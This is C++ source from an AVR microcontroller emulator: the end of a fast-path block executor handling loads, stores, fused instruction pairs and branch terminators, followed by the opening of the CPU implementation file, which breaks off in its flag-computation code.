      ram[op->k] = ram[op->a];
      MAVR_TIER_NEXT();
    L_LdsSreg:
      if (disp[op->k] & IoBus::kHandlesRead) goto side_exit;
      ram[op->a] = sreg;  // the live value; ram[0x5F] may be stale in-block
      MAVR_TIER_NEXT();
    L_In:
      if (disp[op->k] & IoBus::kHandlesRead) [[unlikely]] {
        MAVR_TIER_IO_CALL(ram[op->a] = data_.load(op->k));
        next_pc = op->target;
        term_cyc = op->cyc;
        goto block_done;
      }
      ram[op->a] = ram[op->k];
      MAVR_TIER_NEXT();
    L_InSreg:
      if (disp[op->k] & IoBus::kHandlesRead) goto side_exit;
      ram[op->a] = sreg;
      MAVR_TIER_NEXT();
    L_Out:
      if (disp[op->k] & IoBus::kHandlesWrite) [[unlikely]] {
        MAVR_TIER_IO_CALL(data_.store(op->k, ram[op->a]));
        next_pc = op->target;
        term_cyc = op->cyc;
        goto block_done;
      }
      ram[op->k] = ram[op->a];
      MAVR_TIER_NEXT();
    L_Sbi:
      // The interpreter performs a dispatched load *and* store; route
      // both through the bus if a device handles either side.
      if (disp[op->k] & (IoBus::kHandlesRead | IoBus::kHandlesWrite))
          [[unlikely]] {
        MAVR_TIER_IO_CALL(data_.store(
            op->k,
            static_cast<std::uint8_t>(data_.load(op->k) | (1u << op->b))));
        next_pc = op->target;
        term_cyc = op->cyc;
        goto block_done;
      }
      ram[op->k] |= static_cast<std::uint8_t>(1u << op->b);
      MAVR_TIER_NEXT();
    L_Cbi:
      if (disp[op->k] & (IoBus::kHandlesRead | IoBus::kHandlesWrite))
          [[unlikely]] {
        MAVR_TIER_IO_CALL(data_.store(
            op->k,
            static_cast<std::uint8_t>(data_.load(op->k) & ~(1u << op->b))));
        next_pc = op->target;
        term_cyc = op->cyc;
        goto block_done;
      }
      ram[op->k] &= static_cast<std::uint8_t>(~(1u << op->b));
      MAVR_TIER_NEXT();

    // --- pointer-addressed data transfer -------------------------------
    // Address computed first, then guarded against the plain-RAM window
    // [kExtIoEnd, data_size): anything below (register file, I/O, SP/SREG
    // aliasing) or wrapping side-exits before architectural state moves.
    L_LdX: {
      const std::uint32_t a =
          static_cast<std::uint16_t>(ram[26] | (ram[27] << 8));
      if (a - kExtIoEnd >= ram_span) goto side_exit;
      ram[op->a] = ram[a];
    }
      MAVR_TIER_NEXT();
    L_LdXInc: {
      const std::uint32_t a =
          static_cast<std::uint16_t>(ram[26] | (ram[27] << 8));
      if (a - kExtIoEnd >= ram_span) goto side_exit;
      ram[op->a] = ram[a];
      const std::uint16_t p = static_cast<std::uint16_t>(a + 1);
      ram[26] = static_cast<std::uint8_t>(p & 0xFF);
      ram[27] = static_cast<std::uint8_t>(p >> 8);
    }
      MAVR_TIER_NEXT();
    L_LdXDec: {
      const std::uint32_t a = static_cast<std::uint16_t>(
          static_cast<std::uint16_t>(ram[26] | (ram[27] << 8)) - 1);
      if (a - kExtIoEnd >= ram_span) goto side_exit;
      ram[26] = static_cast<std::uint8_t>(a & 0xFF);
      ram[27] = static_cast<std::uint8_t>(a >> 8);
      ram[op->a] = ram[a];
    }
      MAVR_TIER_NEXT();
    L_LdYInc: {
      const std::uint32_t a =
          static_cast<std::uint16_t>(ram[28] | (ram[29] << 8));
      if (a - kExtIoEnd >= ram_span) goto side_exit;
      ram[op->a] = ram[a];
      const std::uint16_t p = static_cast<std::uint16_t>(a + 1);
      ram[28] = static_cast<std::uint8_t>(p & 0xFF);
      ram[29] = static_cast<std::uint8_t>(p >> 8);
    }
      MAVR_TIER_NEXT();
    L_LdYDec: {
      const std::uint32_t a = static_cast<std::uint16_t>(
          static_cast<std::uint16_t>(ram[28] | (ram[29] << 8)) - 1);
      if (a - kExtIoEnd >= ram_span) goto side_exit;
      ram[28] = static_cast<std::uint8_t>(a & 0xFF);
      ram[29] = static_cast<std::uint8_t>(a >> 8);
      ram[op->a] = ram[a];
    }
      MAVR_TIER_NEXT();
    L_LddY: {
      const std::uint32_t a = static_cast<std::uint16_t>(
          static_cast<std::uint16_t>(ram[28] | (ram[29] << 8)) + op->k);
      if (a - kExtIoEnd >= ram_span) goto side_exit;
      ram[op->a] = ram[a];
    }
      MAVR_TIER_NEXT();
    L_LdZInc: {
      const std::uint32_t a =
          static_cast<std::uint16_t>(ram[30] | (ram[31] << 8));
      if (a - kExtIoEnd >= ram_span) goto side_exit;
      ram[op->a] = ram[a];
      const std::uint16_t p = static_cast<std::uint16_t>(a + 1);
      ram[30] = static_cast<std::uint8_t>(p & 0xFF);
      ram[31] = static_cast<std::uint8_t>(p >> 8);
    }
      MAVR_TIER_NEXT();
    L_LdZDec: {
      const std::uint32_t a = static_cast<std::uint16_t>(
          static_cast<std::uint16_t>(ram[30] | (ram[31] << 8)) - 1);
      if (a - kExtIoEnd >= ram_span) goto side_exit;
      ram[30] = static_cast<std::uint8_t>(a & 0xFF);
      ram[31] = static_cast<std::uint8_t>(a >> 8);
      ram[op->a] = ram[a];
    }
      MAVR_TIER_NEXT();
    L_LddZ: {
      const std::uint32_t a = static_cast<std::uint16_t>(
          static_cast<std::uint16_t>(ram[30] | (ram[31] << 8)) + op->k);
      if (a - kExtIoEnd >= ram_span) goto side_exit;
      ram[op->a] = ram[a];
    }
      MAVR_TIER_NEXT();
    L_StX: {
      const std::uint32_t a =
          static_cast<std::uint16_t>(ram[26] | (ram[27] << 8));
      if (a - kExtIoEnd >= ram_span) goto side_exit;
      ram[a] = ram[op->a];
    }
      MAVR_TIER_NEXT();
    L_StXInc: {
      const std::uint32_t a =
          static_cast<std::uint16_t>(ram[26] | (ram[27] << 8));
      if (a - kExtIoEnd >= ram_span) goto side_exit;
      ram[a] = ram[op->a];
      const std::uint16_t p = static_cast<std::uint16_t>(a + 1);
      ram[26] = static_cast<std::uint8_t>(p & 0xFF);
      ram[27] = static_cast<std::uint8_t>(p >> 8);
    }
      MAVR_TIER_NEXT();
    L_StXDec: {
      const std::uint32_t a = static_cast<std::uint16_t>(
          static_cast<std::uint16_t>(ram[26] | (ram[27] << 8)) - 1);
      if (a - kExtIoEnd >= ram_span) goto side_exit;
      ram[26] = static_cast<std::uint8_t>(a & 0xFF);
      ram[27] = static_cast<std::uint8_t>(a >> 8);
      ram[a] = ram[op->a];  // pointer updated first, like the interpreter
    }
      MAVR_TIER_NEXT();
    L_StYInc: {
      const std::uint32_t a =
          static_cast<std::uint16_t>(ram[28] | (ram[29] << 8));
      if (a - kExtIoEnd >= ram_span) goto side_exit;
      ram[a] = ram[op->a];
      const std::uint16_t p = static_cast<std::uint16_t>(a + 1);
      ram[28] = static_cast<std::uint8_t>(p & 0xFF);
      ram[29] = static_cast<std::uint8_t>(p >> 8);
    }
      MAVR_TIER_NEXT();
    L_StYDec: {
      const std::uint32_t a = static_cast<std::uint16_t>(
          static_cast<std::uint16_t>(ram[28] | (ram[29] << 8)) - 1);
      if (a - kExtIoEnd >= ram_span) goto side_exit;
      ram[28] = static_cast<std::uint8_t>(a & 0xFF);
      ram[29] = static_cast<std::uint8_t>(a >> 8);
      ram[a] = ram[op->a];
    }
      MAVR_TIER_NEXT();
    L_StdY: {
      const std::uint32_t a = static_cast<std::uint16_t>(
          static_cast<std::uint16_t>(ram[28] | (ram[29] << 8)) + op->k);
      if (a - kExtIoEnd >= ram_span) goto side_exit;
      ram[a] = ram[op->a];
    }
      MAVR_TIER_NEXT();
    L_StZInc: {
      const std::uint32_t a =
          static_cast<std::uint16_t>(ram[30] | (ram[31] << 8));
      if (a - kExtIoEnd >= ram_span) goto side_exit;
      ram[a] = ram[op->a];
      const std::uint16_t p = static_cast<std::uint16_t>(a + 1);
      ram[30] = static_cast<std::uint8_t>(p & 0xFF);
      ram[31] = static_cast<std::uint8_t>(p >> 8);
    }
      MAVR_TIER_NEXT();
    L_StZDec: {
      const std::uint32_t a = static_cast<std::uint16_t>(
          static_cast<std::uint16_t>(ram[30] | (ram[31] << 8)) - 1);
      if (a - kExtIoEnd >= ram_span) goto side_exit;
      ram[30] = static_cast<std::uint8_t>(a & 0xFF);
      ram[31] = static_cast<std::uint8_t>(a >> 8);
      ram[a] = ram[op->a];
    }
      MAVR_TIER_NEXT();
    L_StdZ: {
      const std::uint32_t a = static_cast<std::uint16_t>(
          static_cast<std::uint16_t>(ram[30] | (ram[31] << 8)) + op->k);
      if (a - kExtIoEnd >= ram_span) goto side_exit;
      ram[a] = ram[op->a];
    }
      MAVR_TIER_NEXT();
    L_LpmR0:
      ram[0] = flash_.byte(
          static_cast<std::uint16_t>(ram[30] | (ram[31] << 8)));
      MAVR_TIER_NEXT();
    L_Lpm:
      ram[op->a] = flash_.byte(
          static_cast<std::uint16_t>(ram[30] | (ram[31] << 8)));
      MAVR_TIER_NEXT();
    L_LpmInc: {
      const std::uint16_t z =
          static_cast<std::uint16_t>(ram[30] | (ram[31] << 8));
      ram[op->a] = flash_.byte(z);
      const std::uint16_t p = static_cast<std::uint16_t>(z + 1);
      ram[30] = static_cast<std::uint8_t>(p & 0xFF);
      ram[31] = static_cast<std::uint8_t>(p >> 8);
    }
      MAVR_TIER_NEXT();
    L_ElpmR0: {
      const std::uint32_t z =
          (static_cast<std::uint32_t>(ram[kAddrRampz]) << 16) |
          static_cast<std::uint16_t>(ram[30] | (ram[31] << 8));
      ram[0] = flash_.byte(z);
    }
      MAVR_TIER_NEXT();
    L_Elpm: {
      const std::uint32_t z =
          (static_cast<std::uint32_t>(ram[kAddrRampz]) << 16) |
          static_cast<std::uint16_t>(ram[30] | (ram[31] << 8));
      ram[op->a] = flash_.byte(z);
    }
      MAVR_TIER_NEXT();
    L_ElpmInc: {
      const std::uint32_t z =
          (static_cast<std::uint32_t>(ram[kAddrRampz]) << 16) |
          static_cast<std::uint16_t>(ram[30] | (ram[31] << 8));
      ram[op->a] = flash_.byte(z);
      const std::uint32_t z1 = z + 1;
      ram[30] = static_cast<std::uint8_t>(z1 & 0xFF);
      ram[31] = static_cast<std::uint8_t>((z1 >> 8) & 0xFF);
      ram[kAddrRampz] = static_cast<std::uint8_t>((z1 >> 16) & 0xFF);
    }
      MAVR_TIER_NEXT();
    L_Push: {
      const std::uint32_t sp_now =
          static_cast<std::uint16_t>(ram[kAddrSpl] | (ram[kAddrSph] << 8));
      if (sp_now - kExtIoEnd >= ram_span) goto side_exit;
      ram[sp_now] = ram[op->a];
      const std::uint16_t p = static_cast<std::uint16_t>(sp_now - 1);
      ram[kAddrSpl] = static_cast<std::uint8_t>(p & 0xFF);
      ram[kAddrSph] = static_cast<std::uint8_t>(p >> 8);
    }
      MAVR_TIER_NEXT();
    L_Pop: {
      const std::uint32_t a = static_cast<std::uint16_t>(
          static_cast<std::uint16_t>(ram[kAddrSpl] | (ram[kAddrSph] << 8)) +
          1);
      if (a - kExtIoEnd >= ram_span) goto side_exit;
      ram[kAddrSpl] = static_cast<std::uint8_t>(a & 0xFF);
      ram[kAddrSph] = static_cast<std::uint8_t>(a >> 8);
      ram[op->a] = ram[a];
    }
      MAVR_TIER_NEXT();

    // --- followed static call: push and keep executing ------------------
    L_CallPush: {
      const std::uint32_t sp_now =
          static_cast<std::uint16_t>(ram[kAddrSpl] | (ram[kAddrSph] << 8));
      if (sp_now < kExtIoEnd + (push_n - 1) || sp_now >= data_size) {
        goto side_exit;
      }
      const std::uint32_t ret = op->target2;
      ram[sp_now] = static_cast<std::uint8_t>(ret & 0xFF);
      ram[sp_now - 1] = static_cast<std::uint8_t>((ret >> 8) & 0xFF);
      if (push_n == 3) {
        ram[sp_now - 2] = static_cast<std::uint8_t>((ret >> 16) & 0xFF);
      }
      const std::uint16_t p = static_cast<std::uint16_t>(sp_now - push_n);
      ram[kAddrSpl] = static_cast<std::uint8_t>(p & 0xFF);
      ram[kAddrSph] = static_cast<std::uint8_t>(p >> 8);
    }
      MAVR_TIER_NEXT();

    // --- fused pairs ----------------------------------------------------
    // Each retires two instructions in one dispatch (ins_before prefix
    // sums account for that). Operand packing is documented at the
    // translator's fuse(); flag work for the first half is skipped
    // whenever the second half provably overwrites it (only the carry —
    // and for SBC-likes the Z gate — survives the boundary).
    L_Lds2:
      ram[op->a] = ram[op->k];
      ram[op->b] = ram[op->target];
      MAVR_TIER_NEXT();
    L_Sts2:
      ram[op->k] = ram[op->a];
      ram[op->target] = ram[op->b];
      MAVR_TIER_NEXT();
    L_Ldi2:
      ram[op->a] = static_cast<std::uint8_t>(op->k);
      ram[op->b] = static_cast<std::uint8_t>(op->target);
      MAVR_TIER_NEXT();
    L_LdiAdd: {
      ram[op->a] = static_cast<std::uint8_t>(op->k);
      const std::uint8_t d = ram[op->b], r = ram[op->target];
      const std::uint8_t res = static_cast<std::uint8_t>(d + r);
      ram[op->b] = res;
      sreg = sreg_add(sreg, d, r, res);
    }
      MAVR_TIER_NEXT();
    L_LdsAdd: {
      ram[op->a] = ram[op->k];
      const std::uint8_t d = ram[op->b], r = ram[op->target];
      const std::uint8_t res = static_cast<std::uint8_t>(d + r);
      ram[op->b] = res;
      sreg = sreg_add(sreg, d, r, res);
    }
      MAVR_TIER_NEXT();
    L_LdsSub: {
      ram[op->a] = ram[op->k];
      const std::uint8_t d = ram[op->b], r = ram[op->target];
      const std::uint8_t res = static_cast<std::uint8_t>(d - r);
      ram[op->b] = res;
      sreg = sreg_sub(sreg, d, r, res, /*keep_z=*/false);
    }
      MAVR_TIER_NEXT();
    L_AddSts: {
      const std::uint8_t d = ram[op->a], r = ram[op->b];
      const std::uint8_t res = static_cast<std::uint8_t>(d + r);
      ram[op->a] = res;
      sreg = sreg_add(sreg, d, r, res);
      ram[op->k] = ram[op->target];  // STS source may be the ADD's dest
    }
      MAVR_TIER_NEXT();
    L_RorLdi: {
      const std::uint8_t d = ram[op->a];
      const std::uint8_t res =
          static_cast<std::uint8_t>((d >> 1) | ((sreg & 1) ? 0x80 : 0));
      ram[op->a] = res;
      sreg = sreg_asr_ror(sreg, d, res);  // LDI writes no flags
      ram[op->b] = static_cast<std::uint8_t>(op->k);
    }
      MAVR_TIER_NEXT();
    L_AddAdc: {
      const std::uint8_t d = ram[op->a], r = ram[op->b];
      const unsigned sum = unsigned{d} + r;
      ram[op->a] = static_cast<std::uint8_t>(sum);
      // The ADD's flags are dead except its carry-out (the ADC's SREG
      // write covers the whole arithmetic set and preserves the rest).
      const std::uint8_t d2 = ram[op->k & 0xFF], r2 = ram[op->k >> 8];
      const std::uint8_t res2 =
          static_cast<std::uint8_t>(d2 + r2 + (sum >> 8));
      ram[op->k & 0xFF] = res2;
      sreg = sreg_add(sreg, d2, r2, res2);
    }
      MAVR_TIER_NEXT();
    L_AddAdd: {
      const std::uint8_t d = ram[op->a], r = ram[op->b];
      ram[op->a] = static_cast<std::uint8_t>(d + r);
      const std::uint8_t d2 = ram[op->k & 0xFF], r2 = ram[op->k >> 8];
      const std::uint8_t res2 = static_cast<std::uint8_t>(d2 + r2);
      ram[op->k & 0xFF] = res2;
      sreg = sreg_add(sreg, d2, r2, res2);
    }
      MAVR_TIER_NEXT();
    L_SubSbc: {
      const std::uint8_t d = ram[op->a], r = ram[op->b];
      const std::uint8_t res = static_cast<std::uint8_t>(d - r);
      ram[op->a] = res;
      // SBC gates its Z on the previous op's Z and consumes its borrow;
      // everything else of the SUB's flags is overwritten.
      const std::uint8_t z1 =
          res == 0 ? fb(kZ) : std::uint8_t{0};
      const std::uint8_t d2 = ram[op->k & 0xFF], r2 = ram[op->k >> 8];
      const std::uint8_t res2 =
          static_cast<std::uint8_t>(d2 - r2 - (d < r ? 1 : 0));
      ram[op->k & 0xFF] = res2;
      sreg = sreg_sub(
          static_cast<std::uint8_t>((sreg & ~fb(kZ)) | z1), d2, r2, res2,
          /*keep_z=*/true);
    }
      MAVR_TIER_NEXT();
    L_SubiSbci: {
      const std::uint8_t d = ram[op->a];
      const std::uint8_t r = static_cast<std::uint8_t>(op->k);
      const std::uint8_t res = static_cast<std::uint8_t>(d - r);
      ram[op->a] = res;
      const std::uint8_t z1 =
          res == 0 ? fb(kZ) : std::uint8_t{0};
      const std::uint8_t d2 = ram[op->b];
      const std::uint8_t r2 = static_cast<std::uint8_t>(op->target);
      const std::uint8_t res2 =
          static_cast<std::uint8_t>(d2 - r2 - (d < r ? 1 : 0));
      ram[op->b] = res2;
      sreg = sreg_sub(
          static_cast<std::uint8_t>((sreg & ~fb(kZ)) | z1), d2, r2, res2,
          /*keep_z=*/true);
    }
      MAVR_TIER_NEXT();
    L_AsrRor: {
      const std::uint8_t d = ram[op->a];
      const std::uint8_t res =
          static_cast<std::uint8_t>((d >> 1) | (d & 0x80));
      ram[op->a] = res;
      // The ASR's flags are dead except its carry-out into the ROR.
      const std::uint8_t d2 = ram[op->b];
      const std::uint8_t res2 =
          static_cast<std::uint8_t>((d2 >> 1) | ((d & 1) ? 0x80 : 0));
      ram[op->b] = res2;
      sreg = sreg_asr_ror(sreg, d2, res2);
    }
      MAVR_TIER_NEXT();
    L_RorAsr: {
      const std::uint8_t d = ram[op->a];
      const std::uint8_t res =
          static_cast<std::uint8_t>((d >> 1) | ((sreg & 1) ? 0x80 : 0));
      ram[op->a] = res;
      // The ROR's flags are all overwritten by the ASR (which takes no
      // carry-in), so only its stored byte survives.
      const std::uint8_t d2 = ram[op->b];
      const std::uint8_t res2 =
          static_cast<std::uint8_t>((d2 >> 1) | (d2 & 0x80));
      ram[op->b] = res2;
      sreg = sreg_asr_ror(sreg, d2, res2);
    }
      MAVR_TIER_NEXT();
    L_LdsSts:
      ram[op->a] = ram[op->k];
      ram[op->target] = ram[op->b];
      MAVR_TIER_NEXT();
    L_StsLds:
      ram[op->k] = ram[op->a];
      ram[op->b] = ram[op->target];
      MAVR_TIER_NEXT();

    // --- conditional mid-block exits ------------------------------------
    L_CondBrbs:
      if ((sreg >> op->b) & 1) {
        next_pc = op->target;
        term_cyc = op->cyc;
        goto block_done;
      }
      MAVR_TIER_NEXT();
    L_CondBrbc:
      if (!((sreg >> op->b) & 1)) {
        next_pc = op->target;
        term_cyc = op->cyc;
        goto block_done;
      }
      MAVR_TIER_NEXT();
    L_CondCpse:
      if (ram[op->a] == ram[op->b]) {
        next_pc = op->target;
        term_cyc = op->cyc;
        goto block_done;
      }
      MAVR_TIER_NEXT();
    L_CondSbrc:
      if (!((ram[op->a] >> op->b) & 1)) {
        next_pc = op->target;
        term_cyc = op->cyc;
        goto block_done;
      }
      MAVR_TIER_NEXT();
    L_CondSbrs:
      if ((ram[op->a] >> op->b) & 1) {
        next_pc = op->target;
        term_cyc = op->cyc;
        goto block_done;
      }
      MAVR_TIER_NEXT();
    L_CondSbic:
      // A dispatched read ends the block at this boundary whichever way
      // the test goes — the handler may have scheduled work.
      if (disp[op->k] & IoBus::kHandlesRead) [[unlikely]] {
        std::uint8_t v;
        MAVR_TIER_IO_CALL_COND(v = data_.load(op->k),
                               !((v >> op->b) & 1));
        goto block_done;
      }
      if (!((ram[op->k] >> op->b) & 1)) {
        next_pc = op->target;
        term_cyc = op->cyc;
        goto block_done;
      }
      MAVR_TIER_NEXT();
    L_CondSbis:
      if (disp[op->k] & IoBus::kHandlesRead) [[unlikely]] {
        std::uint8_t v;
        MAVR_TIER_IO_CALL_COND(v = data_.load(op->k),
                               (v >> op->b) & 1);
        goto block_done;
      }
      if ((ram[op->k] >> op->b) & 1) {
        next_pc = op->target;
        term_cyc = op->cyc;
        goto block_done;
      }
      MAVR_TIER_NEXT();
    L_CondRet: {
      // Same pop sequence as L_TermRet, then a compare against the
      // translate-time prediction: a match continues in-block, a
      // mismatch (callee unbalanced the stack) exits with the popped
      // destination. Nothing is speculative — the pop is architectural
      // either way.
      const std::uint32_t sp_now =
          static_cast<std::uint16_t>(ram[kAddrSpl] | (ram[kAddrSph] << 8));
      if (sp_now + 1 < kExtIoEnd || sp_now + push_n >= data_size) {
        goto side_exit;
      }
      std::uint32_t raw = 0;
      for (unsigned i = 1; i <= push_n; ++i) {
        raw = (raw << 8) | ram[sp_now + i];
      }
      const std::uint16_t p = static_cast<std::uint16_t>(sp_now + push_n);
      ram[kAddrSpl] = static_cast<std::uint8_t>(p & 0xFF);
      ram[kAddrSph] = static_cast<std::uint8_t>(p >> 8);
      last_ret_raw_words_ = raw;
      last_ret_wrapped_ = (raw & ~mask) != 0;
      const std::uint32_t dest = raw & mask;
      if (dest == op->target) [[likely]] MAVR_TIER_NEXT();
      next_pc = dest;
      term_cyc = op->cyc;
      goto block_done;
    }

    // --- terminators ---------------------------------------------------
    L_TermIjmp:
      next_pc = static_cast<std::uint16_t>(ram[30] | (ram[31] << 8)) & mask;
      term_cyc = op->cyc;
      goto block_done;
    L_TermEijmp:
      next_pc = ((static_cast<std::uint32_t>(ram[kAddrEind]) << 16) |
                 static_cast<std::uint16_t>(ram[30] | (ram[31] << 8))) &
                mask;
      term_cyc = op->cyc;
      goto block_done;
    L_TermIcall: {
      const std::uint32_t sp_now =
          static_cast<std::uint16_t>(ram[kAddrSpl] | (ram[kAddrSph] << 8));
      if (sp_now < kExtIoEnd + (push_n - 1) || sp_now >= data_size) {
        goto side_exit;
      }
      const std::uint32_t ret = op->target2;
      ram[sp_now] = static_cast<std::uint8_t>(ret & 0xFF);
      ram[sp_now - 1] = static_cast<std::uint8_t>((ret >> 8) & 0xFF);
      if (push_n == 3) {
        ram[sp_now - 2] = static_cast<std::uint8_t>((ret >> 16) & 0xFF);
      }
      const std::uint16_t p = static_cast<std::uint16_t>(sp_now - push_n);
      ram[kAddrSpl] = static_cast<std::uint8_t>(p & 0xFF);
      ram[kAddrSph] = static_cast<std::uint8_t>(p >> 8);
      next_pc = static_cast<std::uint16_t>(ram[30] | (ram[31] << 8)) & mask;
      term_cyc = op->cyc;
      goto block_done;
    }
    L_TermEicall: {
      const std::uint32_t sp_now =
          static_cast<std::uint16_t>(ram[kAddrSpl] | (ram[kAddrSph] << 8));
      if (sp_now < kExtIoEnd + (push_n - 1) || sp_now >= data_size) {
        goto side_exit;
      }
      const std::uint32_t ret = op->target2;
      ram[sp_now] = static_cast<std::uint8_t>(ret & 0xFF);
      ram[sp_now - 1] = static_cast<std::uint8_t>((ret >> 8) & 0xFF);
      if (push_n == 3) {
        ram[sp_now - 2] = static_cast<std::uint8_t>((ret >> 16) & 0xFF);
      }
      const std::uint16_t p = static_cast<std::uint16_t>(sp_now - push_n);
      ram[kAddrSpl] = static_cast<std::uint8_t>(p & 0xFF);
      ram[kAddrSph] = static_cast<std::uint8_t>(p >> 8);
      next_pc = ((static_cast<std::uint32_t>(ram[kAddrEind]) << 16) |
                 static_cast<std::uint16_t>(ram[30] | (ram[31] << 8))) &
                mask;
      term_cyc = op->cyc;
      goto block_done;
    }
    L_TermRet:
    L_TermReti: {
      const std::uint32_t sp_now =
          static_cast<std::uint16_t>(ram[kAddrSpl] | (ram[kAddrSph] << 8));
      // pop_pc's batched fast path bounds.
      if (sp_now + 1 < kExtIoEnd || sp_now + push_n >= data_size) {
        goto side_exit;
      }
      std::uint32_t raw = 0;
      for (unsigned i = 1; i <= push_n; ++i) {
        raw = (raw << 8) | ram[sp_now + i];
      }
      const std::uint16_t p = static_cast<std::uint16_t>(sp_now + push_n);
      ram[kAddrSpl] = static_cast<std::uint8_t>(p & 0xFF);
      ram[kAddrSph] = static_cast<std::uint8_t>(p >> 8);
      last_ret_raw_words_ = raw;
      last_ret_wrapped_ = (raw & ~mask) != 0;
      if (op->kind == TierOpKind::kTermReti) sreg |= fb(kI);
      next_pc = raw & mask;
      term_cyc = op->cyc;
      goto block_done;
    }
    L_TermBsetI:
      sreg |= fb(kI);
      next_pc = op->target2;
      term_cyc = op->cyc;
      goto block_done;
    L_TermOutSreg:
      if (disp[op->k] & IoBus::kHandlesWrite) goto side_exit;
      sreg = ram[op->a];
      next_pc = op->target2;
      term_cyc = op->cyc;
      goto block_done;
    L_TermFall:
      // Pseudo-exit: retires nothing itself. The tick/poll that the
      // interpreter would run after the last real op cannot be due here —
      // the deadline guard covered the whole prefix and no in-block op
      // can raise the interrupt gate — so publishing the clock suffices.
      ram[kAddrSreg] = sreg;
      pc = op->target;
      cycles += op->cyc_before;
      retired += op->ins_before;
      stat_insns += op->ins_before;
      ++stat_blocks;
      io_.set_now(cycles);
      continue;

    block_done:
      ram[kAddrSreg] = sreg;
      pc = next_pc;
      cycles += op->cyc_before + term_cyc;
      retired += static_cast<std::uint64_t>(op->ins_before) + 1;
      stat_insns += static_cast<std::uint64_t>(op->ins_before) + 1;
      ++stat_blocks;
      // Exactly the interpreter's post-instruction sequence for the
      // terminator: publish the clock, tick on a crossed deadline, then
      // poll interrupt lines (the terminator may have set I).
      io_.set_now(cycles);
      if (cycles >= io_.next_deadline()) [[unlikely]] io_.tick(cycles);
      if ((ram[kAddrSreg] & fb(kI)) != 0 && io_.irq_hint() &&
          !irq_lines_.empty()) {
        poll_irq_lines<false>(pc, cycles);
      }
      // Self-loop fast path: a hot loop whose backward branch targets its
      // own head (dec/brne spins, polling loops) re-enters the same block
      // without going back through the lookup — only the guards that can
      // change between iterations are rechecked.
      if (pc == blk_head && state_ == CpuState::Running && !want_resync) {
        const std::uint64_t io_deadline = io_.next_deadline();
        const std::uint64_t stop =
            io_deadline < deadline ? io_deadline : deadline;
        if (cycles + blk_worst < stop &&
            !((ram[kAddrSreg] & fb(kI)) != 0 && io_.irq_hint() &&
              !irq_lines_.empty())) {
          op = base;
          sreg = ram[kAddrSreg];
          ++stat_self;
          goto exec_entry;
        }
      }
      continue;

    side_exit:
      // The op at `op` has not touched any architectural state. Restore
      // the exact pre-op machine state and hand the instruction to the
      // interpreter, which redoes it with full dispatch/wrap semantics.
      ram[kAddrSreg] = sreg;
      pc = op->pc_abs;
      cycles += op->cyc_before;
      retired += op->ins_before;
      stat_insns += op->ins_before;
      ++stat_sides;
      io_.set_now(cycles);
      interp_one();
      continue;
    }
    if (want_resync) [[unlikely]] {
      want_resync = false;
      tier_.sync(flash_, io_.handler_generation());
      tepoch = tier_.epoch;
      gen0 = tier_.generation;
      tblocks = tier_.blocks.data();
      tarena = tier_.arena.data();
      goto resync;
    }
  } catch (...) {
    pc_ = pc;
    cycles_ = cycles;
    retired_ = retired;
    flush_stats();
    throw;
  }
  pc_ = pc;
  cycles_ = cycles;
  retired_ = retired;
  flush_stats();
}

#undef MAVR_TIER_NEXT

#else  // !(__GNUC__ || __clang__)

// Without computed goto the tier has no fast dispatch to offer; fall
// through to the interpreter, which is bit-identical by definition.
void Cpu::run_tier(std::uint64_t deadline) {
  step_impl<false>(deadline, /*single=*/false);
}

#endif

}  // namespace mavr::avr
