#include "avr/cpu.hpp"

#include <algorithm>
#include <bit>

#include "support/hexdump.hpp"

namespace mavr::avr {

namespace {
constexpr std::uint8_t bit7(std::uint8_t v) { return (v >> 7) & 1; }
constexpr std::uint8_t bit3(std::uint8_t v) { return (v >> 3) & 1; }

/// SREG bit as a mask byte.
constexpr std::uint8_t fb(SregBit bit) {
  return static_cast<std::uint8_t>(1u << bit);
}

// Flag groups recomputed per ALU class. Each group is cleared from a local
// copy of SREG, the fresh bits OR-ed in, and the result written back once —
// the old per-flag set_flag() path cost six read-modify-write round trips
// through the data space per arithmetic instruction.
constexpr std::uint8_t kArithFlags =
    fb(kH) | fb(kC) | fb(kV) | fb(kN) | fb(kZ) | fb(kS);
constexpr std::uint8_t kLogicFlags = fb(kV) | fb(kN) | fb(kZ) | fb(kS);
constexpr std::uint8_t kShiftFlags =
    fb(kC) | fb(kV) | fb(kN) | fb(kZ) | fb(kS);
}  // namespace

namespace {
/// Decode-cache sentinel: size_words == 0 never comes out of decode().
constexpr Instr kUndecoded{.op = Op::Invalid,
                           .rd = 0,
                           .rr = 0,
                           .bit = 0,
                           .k = 0,
                           .target = 0,
                           .size_words = 0};
}  // namespace

Cpu::Cpu(const McuSpec& spec)
    : spec_(spec),
      flash_(spec),
      data_(spec, io_),
      eeprom_(spec),
      ram_(data_.raw_data()),
      data_size_(spec.data_space_bytes()),
      push_bytes_(static_cast<std::uint8_t>(spec.pc_push_bytes)),
      pc_mask_(spec.flash_words() - 1),
      cache_(spec.flash_words(), kUndecoded) {
  MAVR_CHECK(std::has_single_bit(spec.flash_words()),
             "flash word count must be a power of two for PC wrapping");
  cache_generation_ = flash_.generation();
  reset();
}

void Cpu::reset() {
  data_.clear();
  pc_ = 0;
  set_sp(static_cast<std::uint16_t>(spec_.ramend()));
  state_ = CpuState::Running;
  fault_ = FaultInfo{};
  last_ret_raw_words_ = 0;
  last_ret_wrapped_ = false;
}

const Instr& Cpu::decoded(std::uint32_t word_addr) {
  Instr& in = cache_[word_addr];
  if (in.size_words == 0) [[unlikely]] {
    in = decode(flash_.word(word_addr),
                flash_.word((word_addr + 1) & pc_mask_));
  }
  return in;
}

void Cpu::sync_decode_cache() {
  if (cache_generation_ != flash_.generation()) {
    std::fill(cache_.begin(), cache_.end(), kUndecoded);
    cache_generation_ = flash_.generation();
  }
}

void Cpu::set_flag(SregBit bit, bool value) {
  std::uint8_t s = sreg();
  if (value) {
    s |= static_cast<std::uint8_t>(1u << bit);
  } else {
    s &= static_cast<std::uint8_t>(~(1u << bit));
  }
  set_sreg(s);
}

void Cpu::flags_add(std::uint8_t d, std::uint8_t r, std::uint8_t carry_in,
                    std::uint8_t res) {
  // Branchless composition. `carries` is the full-adder carry-out vector,
  // the identity (d&r) | ((d|r) & ~res) — valid with any carry-in because
  // `res` already encodes it — so H and C are single bit extracts and V is
  // the textbook signed-overflow formula. Data-dependent flag bits are
  // close to random, so arithmetic beats branching on them.
  (void)carry_in;
  const unsigned carries = (d & r) | ((d | r) & ~unsigned{res});
  const unsigned v = ((d & r & ~unsigned{res}) | (~unsigned{d} & ~unsigned{r} & res)) >> 7;
  const unsigned n = res >> 7;
  const unsigned c = (carries >> 7) & 1;
  const unsigned h = (carries >> 3) & 1;
